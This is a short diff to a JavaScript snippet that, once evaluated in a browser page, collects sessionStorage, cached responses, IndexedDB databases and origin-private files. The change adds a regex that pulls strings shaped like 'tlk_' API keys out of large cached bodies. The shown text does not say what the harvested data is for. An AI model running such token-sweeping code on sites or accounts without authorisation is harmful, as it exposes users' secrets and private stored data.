@@ -244,11 +244,14 @@ const everywhere = `(async () => {
 		sessionStorage: JSON.stringify({...sessionStorage}),
 		resources: performance.getEntries().filter((e) => e.entryType !== "navigation").map((e) => e.name).join("\n"),
 	};
-	for (const name of await caches.keys()) {
+	// These two are only there in what a browser calls a secure context.
+	for (const name of await globalThis.caches?.keys() ?? []) {
 		const cache = await caches.open(name);
 		for (const q of await cache.keys()) {
 			const a = await cache.match(q);
-			places["cache " + name + " " + q.url] = q.url + JSON.stringify([...q.headers]) + await a.clone().text();
+			// A program is megabytes: of it, only what looks like a key.
+			const body = await a.text(), keys = body.length < 100_000 ? body : (body.match(/tlk_[\w-]+/g) ?? []).join(" ");
+			places["cache " + name + " " + q.url] = [q.url, a.url, JSON.stringify([...q.headers, ...a.headers]), keys].join("\n");
 		}
 	}
 	for (const { name } of await indexedDB.databases()) {
@@ -267,7 +270,7 @@ const everywhere = `(async () => {
 			else places["file " + path + name] = await (await entry.getFile()).text();
 		}
 	};
-	await files(await navigator.storage.getDirectory(), "");
+	if (navigator.storage) await files(await navigator.storage.getDirectory(), "");
 	return places;
 })()`
 
